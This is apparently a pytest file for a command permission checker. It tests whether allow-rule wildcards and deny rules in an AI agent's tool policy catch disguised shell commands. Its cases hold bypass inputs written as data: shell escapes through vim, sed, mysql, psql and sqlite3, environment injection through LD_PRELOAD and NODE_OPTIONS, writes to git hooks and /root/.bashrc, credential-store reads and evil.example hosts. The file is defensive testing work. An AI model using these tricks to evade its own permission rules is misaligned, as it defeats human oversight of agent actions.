"""What an allow rule's wildcard covers, and what a deny rule finds however it is hidden."""

from pathlib import Path

import pytest

from callwright import Allow, Deny
from callwright.policy import judge_command


def _judge(line: str, folder: Path, **rules: list[str]) -> object:
    return judge_command(line, cwd=folder, workspace=folder, **rules)  # type: ignore[arg-type] - lists of rules only


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("Bash(git push origin *)", "git push origin main"),
        ("Bash(git push origin *)", "git push origin HEAD:main"),
        ("Bash(rm -rf build/*)", "rm -rf build/x"),
        ("Bash(./scripts/build.sh:*)", "./scripts/build.sh --fast"),
        ("Bash(./scripts/*)", "./scripts/build.sh all"),
        ("Bash(npm run test*)", "npm run test:unit -- --watch"),
        ("Bash(make *)", "cd src && make all"),
        ("Bash(/opt/build-it *)", "cd src && /opt/build-it all"),
        ("Bash(build-it *)", "build-it ../x"),
        ("Bash(npm test)", "FOO=1 npm test"),
        ("Bash(npm test)", "DEBUG=1 LANG=C npm test"),
        ("Bash(npm test)", "env CI=1 npm test"),
        ("Bash(npm test)", "env FOO=1 LANG=C npm test"),
        ("Bash(npm run *)", "CI=1 env FOO=1 npm run build"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/a"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/a -s"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/a -sSLi -wx"),
        ("Bash(curl *)", "curl -xproxy https://example.com/a"),
        ("Bash(go test *)", "go test -C sub -run=TestCart ./..."),
        ("Bash(go test *)", "go test -C=sub ./..."),
        ("Bash(psql -c *)", "psql -c 'update t set a = 1'"),
        ("Bash(psql -c *)", "psql -c '\\dt'"),
        ("Bash(psql -c *)", "psql -c '\\d+ public.users' app"),
        ("Bash(mysql -e *)", "mysql -e 'update t set source = 1'"),
        ("Bash(mysql -e *)", "mysql -e 'select 1' source"),
        ("Bash(mysql -e *)", "mysql -e 'select 1\\G' system"),
        ("Bash(mysql -u root -e *)", r"""mysql -u root -e "select * from t where p like 'C:\\\\Program%'" """),
        ("Bash(mysql -e *)", 'mysql -e \'insert into t values ("see; source of", "a\\Tb")\''),
        ("Bash(split *)", "split -l 5 notes.txt"),
        ("Bash(git commit *)", "git commit -qmcache"),
        ("Bash(git cherry-pick *)", "git cherry-pick -x HEAD"),
        ("Bash(pytest *)", "pytest -xvs -rpP -k cap tests/test_x.py"),
        ("Bash(make *)", "make -C docs html V=1 ARGS=-k"),
        ("Bash(rsync *)", "rsync -avz a b"),
        ("Bash(go test *)", "go test -run X -v -vet=off ./..."),
        ("Bash(gcc *)", "gcc -O2 -c a.c"),
        ("Bash(gcc *)", "gcc -fno-omit-frame-pointer -o build/app a.c"),
        ("Bash(git archive *)", "git archive -o x.tar HEAD"),
        ("Bash(git bundle *)", "git bundle create x.bundle HEAD"),
        ("Bash(wget *)", "wget -q -O x.html http://example.com"),
        ("Bash(uv run pytest *)", "uv run pytest -q tests"),
        ("Bash(uv run pytest -p no:cacheprovider *)", "uv run pytest -p no:cacheprovider tests"),
        ("Bash(timeout 60 pytest -p no:cacheprovider *)", "timeout 60 pytest -p no:cacheprovider tests"),
        ("Bash(git -c color.ui=never log *)", "git -c color.ui=never log -3"),
        ("Bash(uv run timeout 5 pytest *)", "uv run timeout 5 pytest tests"),
        ("Bash(npx eslint *)", "npx eslint src --fix"),
        ("Bash(npm test *)", "npm test -- --watch"),
        ("Bash(sqlite3 *)", "sqlite3 ./x.db 'select 1'"),
        ("Bash(sqlite3 *)", "sqlite3 ./x.db 'update t set edited = 1, edit = 2'"),
        ("Bash(git *)", "git checkout maintenance"),
        ("Bash(git *)", "git mv a b"),
    ],
)
def test_rule_covers_what_its_author_meant(tmp_path: Path, rule: str, line: str) -> None:
    assert isinstance(_judge(line, tmp_path, allow=[rule]), Allow)


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("Bash(git -c color.ui=never *)", "git -c color.ui=never -c core.pager=x log"),
        ("Bash(uv run timeout *)", "uv run timeout 5 evil"),
        ("Bash(uv run nice *)", "uv run nice evil"),
        ("Bash(npx env *)", "npx env evil"),
        ("Bash(uv run sh *)", "uv run sh evil.sh"),
        ("Bash(pytest -p no:cacheprovider *)", "pytest -p no:cacheprovider -p evil"),
        ("Bash(git push origin *)", "git push origin +main"),
        ("Bash(git push origin *)", "git push origin :main"),
        ("Bash(git push origin *)", "git push origin main --force"),
        ("Bash(git push *)", "git push origin +HEAD:main"),
        ("Bash(git push *)", "git push -d origin main"),
        ("Bash(rm -rf build/*)", "rm -rf build/ src"),
        ("Bash(rm -rf build/*)", "rm -rf build/x /"),
        ("Bash(rm -rf build*)", "rm -rf build src"),
        ("Bash(rm -rf build/*)", "rm -rf build/../src"),
        ("Bash(cp src/*)", "cp src/a .git/hooks/pre-commit"),
        ("Bash(./scripts/build.sh:*)", "cd /tmp/evil && ./scripts/build.sh"),
        ("Bash(./scripts/build.sh)", "cd sub && ./scripts/build.sh"),
        ("Bash(./scripts/build.sh:*)", "pushd x; ./scripts/build.sh"),
        ("Bash(make *)", "cd /tmp && make all"),
        ("Bash(make *)", "make -kC/tmp all"),
        ("Bash(terraform *)", "terraform -chdir=/tmp plan"),
        ("Bash(tcpdump *)", "tcpdump -zx y"),
        ("Bash(mysql -e *)", """mysql -e "/* ' */ system id; /* ' */" """),
        ("Bash(mysql -e *)", "mysql -e \"select 'a\u00fc; system id'\""),
        ("Bash(go *)", "go list --frobnicate"),  # to list only reads, and what the option does is not known
        ("Bash(npm test)", "cd .. && npm test"),
        ("Bash(npm test)", "env -C /tmp npm test"),
        ("Bash(npm test)", "nice -n $(cat n) npm test"),  # n may hold `1 touch x`
        ("Bash(npm test)", "timeout $(cat n) npm test"),
        ("Bash(npm test)", "env FOO=$(cat n) npm test"),
        ("Bash(npm test)", "env PATH=/tmp npm test"),
        ("Bash(npm test)", "env -i npm test"),
        ("Bash(npm test)", "env -u PATH npm test"),
        ("Bash(npm test)", "env FOO=1 -S 'npm test'"),
        ("Bash(npm test)", "env FOO=1 LD_PRELOAD=./x.so npm test"),
        ("Bash(npm test)", "env NODE_OPTIONS=-r./x npm test"),
        ("Bash(npm test)", "env FOO=1 npm_config_script_shell=./x npm test"),
        ("Bash(npm test)", "./env FOO=1 npm test"),
        ("Bash(npm test)", "env FOO=1 bash -c 'npm test'"),
        ("Bash(npm test)", "PATH=. env FOO=1 npm test"),
        ("Bash(npm test)", "BASH_ENV=./x npm test"),
        ("Bash(npm test)", "IFS=x npm test"),
        ("Bash(npm test)", "PYTHONPATH=. npm test"),
        ("Bash(npm test)", "GIT_SSH_COMMAND=./x npm test"),
        ("Bash(npm test)", "LD_PRELOAD=./x.so npm test"),
        ("Bash(npm test)", "NODE_OPTIONS='-r ./x' npm test"),
        ("Bash(make deploy)", "TARGET=production make deploy"),
        ("Bash(less *)", "less +!id README"),
        ("Bash(less *)", "less -o x README"),
        ("Bash(vim *)", "vim -c '!id' x"),
        ("Bash(vim *)", "vim x"),
        ("Bash(split *)", "split --filter=id notes.txt"),
        ("Bash(split *)", "split --filt id notes.txt"),
        ("Bash(install *)", "install -s --strip-program=./x a b"),
        ("Bash(setpriv *)", "setpriv --nnp id"),
        ("Bash(wget *)", "wget -O .git/hooks/pre-commit http://example.com"),
        ("Bash(wget *)", "wget -qO.git/hooks/pre-commit http://example.com"),
        ("Bash(wget *)", "wget -P /etc http://example.com"),
        ("Bash(wget *)", "wget -o /etc/x http://example.com"),
        ("Bash(git archive *)", "git archive -o .git/hooks/pre-commit HEAD"),
        ("Bash(git bundle *)", "git bundle create /root/.bashrc HEAD"),
        ("Bash(git format-patch *)", "git format-patch -o /etc HEAD"),
        ("Bash(gcc *)", "gcc -o /root/.bashrc a.c"),
        ("Bash(gcc *)", "gcc -o.git/hooks/pre-commit a.c"),
        ("Bash(go build *)", "go build -o /root/.bashrc"),
        ("Bash(rsync *)", "rsync -avze 'sh -c x' a b:c"),
        ("Bash(rsync *)", "rsync -M--rsync-path=x a b:c"),
        ("Bash(scp *)", "scp -rS x a b:c"),
        ("Bash(tar *)", "tar cvfI a x b"),
        ("Bash(git rebase *)", "git rebase -ix 'touch y' main"),
        ("Bash(pytest *)", "pytest -xpevil"),
        ("Bash(go test *)", "go test --exec x ./..."),
        ("Bash(go test *)", "go test -vettool=x ./..."),
        ("Bash(psql *)", "psql -Xc x"),
        ("Bash(sqlite3 *)", "sqlite3 db '.shell touch x'"),
        ("Bash(sqlite3 *)", "sqlite3 db \"select edit('a', 'touch x')\""),
        ("Bash(sqlite3 *)", "sqlite3 db \"select 1; select \\\"EDIT\\\"/* a */('a', 'touch x')\""),
        ("Bash(sqlite3 *)", "sqlite3 db \"select writefile('/etc/x', 'a')\""),
        ("Bash(git *)", "git maintenance start"),
        ("Bash(git *)", "git checkout-index -af"),
        ("Bash(git *)", "git read-tree -u --reset HEAD"),
        ("Bash(git *)", "git credential-store get"),
        ("Bash(git *)", "git remote-ext a 'touch x'"),
        ("Bash(git send-email *)", "git send-email --to-cmd='touch x' 0001.patch"),
        ("Bash(g++ *)", "g++ -wrapper x a.c"),
        ("Bash(cc *)", "cc -wrapper x a.c"),
        ("Bash(clang++ *)", "clang++ -fplugin=x a.c"),
        ("Bash(gcc *)", "gcc @args"),
        ("Bash(pip3 install *)", "pip3 install --index-url http://evil.example x"),
        ("Bash(make test *)", "make test SHELL=/tmp/x"),
        ("Bash(make test *)", "make test -f /tmp/evil"),
        ("Bash(make test *)", "make test -rf/tmp/evil"),
        ("Bash(make test *)", "make test -C /tmp/x"),
        ("Bash(npm test *)", "npm test --prefix /tmp/x"),
        ("Bash(npm test *)", "npm test --prefix=../x"),
        ("Bash(eslint *)", "eslint --rulesdir /tmp/x ."),
        ("Bash(prettier *)", "prettier --plugin=/tmp/x ."),
        ("Bash(uv run pytest *)", "uv run pytest -p evil"),
        ("Bash(npx eslint *)", "npx eslint --rulesdir x"),
        ("Bash(numactl *)", "numactl -N 0 id"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/a https://evil.example"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/a -o x"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/a -sxevil.example"),
        ("Bash(wget https://example.com/*)", "wget https://example.com/a -qilist"),
        ("Bash(wget https://example.com/*)", "wget https://example.com/a -rH"),
        ("Bash(wget https://example.com/*)", "wget https://example.com/a -r --span-hosts"),
        ("Bash(go test *)", "go test -C /elsewhere ./..."),
        ("Bash(go test *)", "go test --C=../elsewhere ./..."),
        ("Bash(go test *)", "go test -C=/elsewhere ./..."),
        ("Bash(psql -c *)", "psql -c '\\! touch x'"),
        ("Bash(mysql -e *)", "mysql -e 'select 1; system touch x'"),
        ("Bash(mysql -e *)", "mysql -e 'select 1 \\! touch x'"),
        ("Bash(mysql -e *)", "mysql -e 'use db\nsystem touch x'"),
        ("Bash(mysql -e *)", "mysql -e 'use \"db\nsystem touch x\n\"'"),
        ("Bash(mysql -e *)", "mysql -e '-- \"\nsystem touch x\n-- \"'"),
        ("Bash(mysql -e *)", "mysql -e '\\u \"db; system touch x; \"'"),
        ("Bash(mysql -e *)", 'mysql -e \'select "\\"; system touch x; "\''),
        ("Bash(mysql -e *)", "mysql -e 'select 1\\Gsystem touch x;'"),
        ("Bash(mysql -e *)", "mysql -e '/* a */ system touch x;'"),
        ("Bash(mysql -e *)", "mysql -e 'delimiter !\nselect 1! system touch x!'"),
        ("Bash(mysql -e *)", "mysql -e 'select 1! system touch x!' --delimiter=!"),
        ("Bash(mysql -Be *)", "mysql -Be 'system touch x'"),
        ("Bash(mysql -e *)", "mysql -e 'select 1' --loose-execute='system touch x'"),
        ("Bash(psql -c *)", "psql -c '\\dt | touch x'"),
        ("Bash(psql -c *)", "psql -c '\\d `touch x`'"),
        ("Bash(psql -c *)", "psql -c '\\dt \\! touch x'"),
        ("Bash(psql -c *)", "psql -c '\\lo_export 1 x'"),
        ("Bash(curl https://example.com/*)", "curl https://example.com/ --url=https://evil.example"),
        ("Bash(curl https://example.com*)", "curl https://example.com.evil.example/a"),
        ("Bash(curl https://example.com*)", "curl https://example.com@evil.example/a"),
    ],
)
def test_wildcard_covers_nothing_else(tmp_path: Path, rule: str, line: str) -> None:
    assert not isinstance(_judge(line, tmp_path, allow=[rule]), Allow)


@pytest.mark.parametrize(
    "line",
    [
        "test -v 'a[$(curl x)]'",
        "[ -v 'a[$(curl x)]' ]",
        "[[ -v 'a[$(curl x)]' ]]",
        "unset 'a[$(curl x)]'",
        "unset 'a[`curl x`]'",
        "let 'a[$(curl x)]=1'",
        "read 'a[$(curl x)]'",
        "mapfile 'a[$(curl x)]'",
        "declare 'a[$(curl x)]=1'",
        "wait -n -p 'a[$(curl x)]'",
        "printf -v 'a[$(curl x)]' y",
        "test -v 'a[$(test -v 'b[$(curl x)]')]'",
        "echo `echo \\`curl x\\``",
        "sed '1e curl x' f",
        "sed -n '$e curl x' f",
        "sed 's/.*/curl x/e' f",
        "setpriv --nnp curl x",
        "setpriv --reuid 5 curl x",
        "choom -n 5 -- curl x",
        "numactl -N 0 curl x",
        "uclampset -m 5 curl x",
        "firejail curl x",
        "dbus-run-session -- curl x",
        "ssh-agent curl x",
        "env -- A=1 curl x",
        "busybox curl x",
        "/usr/bin/toybox curl x",
        "CURL.EXE x",
        "git -C x submodule foreach 'curl x'; curl x",
    ],
)
def test_deny_rule_finds_a_hidden_command(tmp_path: Path, line: str) -> None:
    assert isinstance(_judge(line, tmp_path, deny=["Bash(curl *)"]), Deny)


@pytest.mark.parametrize(
    ("rule", "line", "allowed"),
    [
        ("Bash(make *)", "make -C @/docs html", True),
        ("Bash(make *)", "make -C @", True),
        ("Bash(make *)", "make --directory=@/docs -f @/docs/Makefile", True),
        ("Bash(make *)", "cd docs && make -C @/docs/part", True),
        ("Bash(npm test *)", "npm test --prefix @/docs", True),
        ("Bash(uv run make *)", "uv run make -C @/docs", True),
        ("Bash(make *)", "make -C @/../other", False),
        ("Bash(make *)", "make -C @other", False),
        ("Bash(make *)", "cd docs && make -C @/src", False),  # as with `-C ../src`
        ("Bash(make *)", "make -C / -C @", False),
    ],
)
def test_rule_covers_a_folder_below_by_its_full_name(tmp_path: Path, rule: str, line: str, allowed: bool) -> None:
    (tmp_path / "docs").mkdir()
    assert isinstance(_judge(line.replace("@", str(tmp_path)), tmp_path, allow=[rule]), Allow) is allowed


_UNREADABLE_SCRIPTS = ["source <(echo curl x)", ". /dev/stdin", "bash <(echo curl x)", "alias x='curl y'"]


@pytest.mark.parametrize(
    "line", [*_UNREADABLE_SCRIPTS, "bash", "sh -x", "sh +x", "sh -s x", "curl$X y", "cu$X y", "$X", "curl $X"]
)
def test_unreadable_script_asks_where_a_deny_rule_may_apply(tmp_path: Path, line: str) -> None:
    assert not isinstance(_judge(line, tmp_path, deny=["Bash(curl *)"], allow=["Bash"]), Allow)


@pytest.mark.parametrize("line", ["echo $X", "alias", "cat /dev/stdin", "bash x.sh", "x=$Y"])
def test_line_that_runs_nothing_hidden_is_left_alone_by_a_deny_rule(tmp_path: Path, line: str) -> None:
    assert isinstance(_judge(line, tmp_path, deny=["Bash(curl *)"], allow=["Bash"]), Allow)


@pytest.mark.parametrize(
    ("line", "allowed"),
    [
        ("grep -r . secret", False),
        ("grep -rn x .", False),
        ("rg --hidden x", False),
        ("rg -e x", False),
        ("rg --max-depth 3 x", False),
        ("rg -n --type py x", False),
        ("ag -C 3 x", False),
        ("ag --depth 3 x", False),
        ("ack --match x", False),
        ("ack -A 2 x", False),
        ("find . -type f -exec cat {} +", False),
        ("find . -name '*.txt' | xargs head", False),
        ("cat $(find . -type f)", False),
        ("diff -r secret other", False),
        ("sdiff secret a.txt", False),  # secret/a.txt
        ("delta secret a.txt", False),
        ("grep -r --regexp x", False),
        ("grep -r --include '*' x other", True),
        ("git grep x -- secret", False),
        ("git grep x secret", False),
        ("git diff secret", False),
        ("git diff HEAD -- 's*'", False),
        ("git diff :/secret", False),
        ("git log -p -- secret", False),
        ("git show HEAD -- .", False),
        ("openssl x509 -in secret/a.txt -text", False),
        ("openssl dgst -r secret/a.txt", False),
        ("git grep x -- other", True),
        ("git grep 'x.*'", False),
        ("git grep 'x.*' -- other", True),
        ("rg -e x other", True),
        ("rg -n --max-depth 3 x other", True),
        ("ag -C 3 x other", True),
        ("ag -C x other", True),
        ("ack -A 2 -i x other", True),
        ("git diff HEAD -- '*.md' ':!secret'", True),
        ("git log -S 's*' -- other", True),
        ("openssl x509 -in other/b.py -text", True),
        ("grep -rn x other", True),
        ("find other -type f -exec cat {} +", True),
        ("find . -name '*.py' | xargs head", True),
    ],
)
@pytest.mark.parametrize("rule", ["Read(secret/**)", "Read(./secret/**)", "Read(/secret/*.txt)"])
def test_read_deny_rule_covers_recursive_readers(tmp_path: Path, rule: str, line: str, allowed: bool) -> None:
    for file in ("secret/a.txt", "other/b.py"):
        (tmp_path / file).parent.mkdir()
        (tmp_path / file).write_text("x")
    assert isinstance(_judge(line, tmp_path, deny=[rule]), Allow) is allowed


@pytest.mark.parametrize("line", ["black --check .", "ruff check", "ruff format --diff ./", "isort --diff ."])
def test_read_deny_rule_covers_source_files_of_formatters(tmp_path: Path, line: str) -> None:
    for file in (".env", "other/b.py", "secret/a.txt"):
        (tmp_path / file).parent.mkdir(exist_ok=True)
        (tmp_path / file).write_text("x")
    deny = ["Read(secret/**)", "Read(.env)"]
    assert isinstance(_judge(line, tmp_path, deny=deny), Allow)
    (tmp_path / "secret/c.py").write_text("x")
    assert not isinstance(_judge(line, tmp_path, deny=deny), Allow)
    (tmp_path / "secret/c.py").unlink()
    for named in ("black --check --diff secret", "ruff check secret", "ruff format --diff other secret"):
        assert not isinstance(_judge(named, tmp_path, deny=deny), Allow)
    for harmless in ("ruff check other", "ruff rule E501", "black --check --diff other"):
        assert isinstance(_judge(harmless, tmp_path, deny=deny), Allow)


def test_tracked_folder_with_a_secret_is_shown_unasked(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("x")
    for line in ("git log -p -- .", "git grep x -- .", "git show HEAD -- ."):
        assert isinstance(_judge(line, tmp_path), Allow)
